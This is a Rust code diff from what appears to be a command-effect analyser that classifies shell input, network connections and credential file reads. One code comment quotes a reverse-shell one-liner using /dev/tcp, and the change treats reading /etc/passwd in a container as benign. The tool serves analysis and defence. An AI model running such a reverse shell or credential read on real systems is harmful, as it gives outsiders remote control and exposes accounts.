@@ -5,7 +5,7 @@ use std::borrow::Cow;
 use crate::arg::{Arg, Hazy};
 use crate::classify::{self, Purpose};
 use crate::doing::{Cwds, Doing, Inner};
-use crate::effect::{Carries, Effect, Origin, Peer};
+use crate::effect::{Carries, Effect, Origin, Peer, Place, Target};
 use crate::engine::{At, Context, Engine};
 use crate::knowledge::{self, Action, Node, Role, Touch};
 use crate::normal::{self, Normal};
@@ -385,15 +385,23 @@ impl<'a> Evaluation<'_, '_, '_, '_, 'a> {
 
     /// Standard input, where it is code.
     fn input(&mut self, line: &Line<'a>) {
-        let Some(role) = line.innermost(|node| node.block.input) else { return };
-        if self.doing.code_given {
-            return;
-        }
+        let role = match self.doing.input_code {
+            Some(language) => Role::Code(language),
+            None if self.doing.code_given => return,
+            None => match line.innermost(|node| node.block.input) {
+                Some(role) => role,
+                None => return,
+            },
+        };
         let mut input = self.at.context.input.clone();
         // `bash -i >& /dev/tcp/host/port 0>&1`: the other end types.
         if self.at.context.extra.iter().any(|effect| matches!(effect, Effect::Connect(_))) {
             input.network = true;
             input.constant = None;
+        }
+        if input.more && input.constant.is_some() && matches!(role, Role::Shell | Role::Code(_)) {
+            let language = if let Role::Code(language) = role { language } else { "shell" };
+            self.doing.code(language, input.origin());
         }
         match role {
             Role::Shell => match &input.constant {
@@ -417,7 +425,10 @@ impl<'a> Evaluation<'_, '_, '_, '_, 'a> {
         self.doing.code_given = true;
         let context = Context { depth: self.at.context.depth + 1, ..Context::default() };
         let effects = self.engine.apart(words, &At { context: &context, ..*self.at });
-        if effects.iter().any(|effect| !matches!(effect, Effect::Read(_))) {
+        // Everybody in a container may know who is in it.
+        let known = |target: &Target| target.place != Place::Credential || target.path == "/etc/passwd";
+        let looks = |effect: &Effect| matches!(effect, Effect::Read(target) if known(target));
+        if !effects.iter().all(looks) {
             let name = words.first().and_then(Arg::text).unwrap_or("a command");
             self.doing.add(Effect::Run { program: format!("{name} in a container") });
         }
